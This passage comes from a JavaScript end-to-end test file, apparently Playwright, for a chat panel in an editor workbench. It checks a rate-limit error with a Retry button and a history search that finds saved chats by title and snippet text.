    assert.equal(await banner.isVisible(), false, 'the countdown is gone');
    const error = lastReply(frame).locator('.message-error');
    assert.match(normalize(await error.innerText()), /rate limiting requests \(HTTP 429\)/);
    assert.equal(asked() - before, 2, 'nothing was sent after Cancel');
    await error.locator('button', { hasText: 'Retry' }).click();
    await waitForStatus(frame, 'done');
    assert.match(await lastReply(frame).innerText(), /You said: Are you rate limited\?/);
  });

  it('issue 15.5: History finds chats by title and by text as you type, shows the snippet, and opens the one picked', async () => {
    const { page } = context.workbench;
    const frame = await openChat(page);
    for (const texts of [['How do I groom a wombat?'], ['Plan the release notes', 'Mention the wombat mascot in the credits too']]) {
      await frame.locator('#new-conversation').click();
      await frame.locator('.empty-state').waitFor({ state: 'visible', timeout: LONG_WAIT });
      for (const text of texts) {
        await send(frame, text);
        await waitForStatus(frame, 'done');
      }
    }
    await frame.locator('#open-history').click();
    const history = frame.locator('#history');
    const search = history.getByRole('searchbox', { name: 'Search the saved chats' });
    await search.waitFor({ state: 'visible' });
    assert.ok(await search.evaluate((element) => element === document.activeElement), 'the search box has the focus');
    assert.ok((await history.locator('.history-group').allTextContents()).includes('Today'), 'the chats are grouped by date');
    await search.pressSequentially('wombat', { delay: 40 });

    const rows = history.locator('.history-row');
    await waitUntil(async () => normalize(await history.locator('.history-summary').innerText()) === '2 chats found', 'the two chats to be found');
    assert.deepEqual(
      (await rows.locator('.history-title').allInnerTexts()).map(normalize),
      ['How do I groom a wombat?', 'Plan the release notes'],
      'the title match comes first',
    );
    const snippet = rows.nth(1).locator('.history-snippet');
    assert.equal(normalize(await snippet.innerText()), 'Mention the wombat mascot in the credits too');
    assert.deepEqual(await snippet.locator('mark').allInnerTexts(), ['wombat'], 'the word found is highlighted');
    assert.deepEqual(await rows.nth(0).locator('.history-title mark').allInnerTexts(), ['wombat']);
    // Pin and Export show over the row the pointer is on.
    await rows.nth(1).hover();
    await rows.nth(1).getByRole('button', { name: 'Pin "Plan the release notes"' }).waitFor({ state: 'visible' });
    await context.workbench.screenshot('chat-history-search');

    // The keyboard opens the other chat: the panel switches to it.
    await search.press('ArrowDown');
    await page.keyboard.press('Enter');
    await history.waitFor({ state: 'hidden' });
    await frame.locator('article.message.user', { hasText: 'How do I groom a wombat?' }).waitFor({ state: 'visible', timeout: LONG_WAIT });
    assert.equal(await frame.locator('article.message.user', { hasText: 'Mention the wombat mascot' }).count(), 0);
  });
});
